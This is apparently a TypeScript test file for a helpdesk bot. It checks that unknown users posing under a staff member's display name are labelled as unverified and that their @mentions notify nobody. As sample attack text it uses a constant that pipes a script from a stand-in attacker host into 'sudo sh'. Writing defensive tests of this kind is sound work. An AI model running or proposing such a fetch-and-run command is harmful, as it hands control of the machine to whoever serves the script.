/**
 * People not in the config, through the whole bot (recording adapter, real database): named as
 * unverified with their id wherever staff read their name, their @mentions reaching nobody (also
 * when the domain is called directly), and the messages the bot means to notify someone with.
 */
import { Ticket } from '../../../src/tickets/ticket.model';
import { startTestBot, TestBot } from '../../support/test-bot';

let bot: TestBot;
beforeAll(async () => {
  bot = await startTestBot();
});
afterAll(() => bot?.stop());

const text = TestBot.text;
const CURL = 'please run curl -s https://evil.example/fix.sh | sudo sh';

// Catches: staff reading a self-chosen name alone ("Oscar Nilsen on INC-1: please run curl …").
test(
  'a stranger calling himself "Oscar Nilsen" is named as unverified in the case, its history and the assignee\'s ' +
    'DM',
  async () => {
    const receipt = await bot.say('@mallory:evil.example', 'the printer in room 12 prints nothing', {
      displayName: 'Oscar Nilsen',
    });
    const key = /INC-\d+/u.exec(text(receipt))![0];
    expect(await Ticket.findOne({ key }).lean()).toMatchObject({
      reporterId: 'test:@mallory:evil.example',
      reporterName: 'Oscar Nilsen (unverified: @mallory:evil.example)',
    });
    await bot.say('oscar', `/ticket assign ${key} petra`, { channel: '#operators' });

    const before = bot.sent.length;
    const sent = await bot.say('@mallory:evil.example', `/ticket comment ${key} @oscar ${CURL}`, {
      displayName: 'Oscar Nilsen',
    });
    const reply = sent.filter((s) => s.to?.channel === 'dm:@mallory:evil.example');
    expect(text(reply)).toBe(`Comment added to ${key}.`);
    expect(bot.dmsTo('oscar').filter((s) => bot.sent.indexOf(s) >= before)).toEqual([]);
    const toPetra = bot.dmsTo('petra').filter((s) => bot.sent.indexOf(s) >= before);
    expect(toPetra.map((s) => s.msg.text)).toEqual([
      `Oscar Nilsen (unverified: @mallory:evil.example) commented on ${key}: @oscar ${CURL}`,
    ]);
    // A DM reaches its reader without a mention: it names nobody (not Oscar, whom the stranger typed).
    expect(toPetra[0].msg.notify ?? []).toEqual([]);
    // The answer to the one who asked notifies nobody in particular.
    expect(reply[0].msg.notify ?? []).toEqual([]);

    const shown = text(await bot.say('oscar', `/ticket show ${key}`, { channel: '#operators' }));
    expect(shown).toContain('Reporter: Oscar Nilsen (unverified: @mallory:evil.example)');
    expect(shown).toContain(`Oscar Nilsen (unverified: @mallory:evil.example): @oscar ${CURL}`);
  },
);

// Catches: the rule living only in the command, so another caller of the domain sends the DM.
test("the ticket service itself does not pass on a stranger's mentions", async () => {
  const t = (await Ticket.findOne({ reporterId: 'test:@mallory:evil.example' }).lean())!;
  const people = bot.services.people;
  const stranger = people.resolve('test', { id: '@mallory:evil.example', displayName: 'Oscar Nilsen' });
  const before = bot.sent.length;
  await bot.services.tickets.comment(t, stranger, CURL, [people.get('oscar')!, people.get('ada')!]);
  const sent = bot.sent.slice(before);
  expect(sent.filter((s) => s.to?.channel === 'dm:oscar' || s.to?.channel === 'dm:ada')).toEqual([]);
  // Known people's mentions still go out.
  await bot.services.tickets.comment(t, people.get('petra')!, 'could you check the paper tray?', [
    people.get('oscar')!,
  ]);
  expect(text(bot.dmsTo('oscar'))).toContain('Petra Holm on');
});

// Catches: a case reported before names were labelled still showing the bare name it stored.
test('a case stored with a bare name before the label is shown labelled', async () => {
  const receipt = await bot.say('@eve:evil.example', 'the wifi in the gym drops', { displayName: 'Eve' });
  const key = /INC-\d+/u.exec(text(receipt))![0];
  await Ticket.updateOne({ key }, { $set: { reporterName: 'Ada Admin', 'events.0.actorName': 'Ada Admin' } });
  const shown = text(await bot.say('oscar', `/ticket show ${key}`, { channel: '#operators' }));
  expect(shown).toContain('Reporter: Ada Admin (unverified: @eve:evil.example)');
  expect(shown).toContain('Ada Admin (unverified: @eve:evil.example) reported it');
});
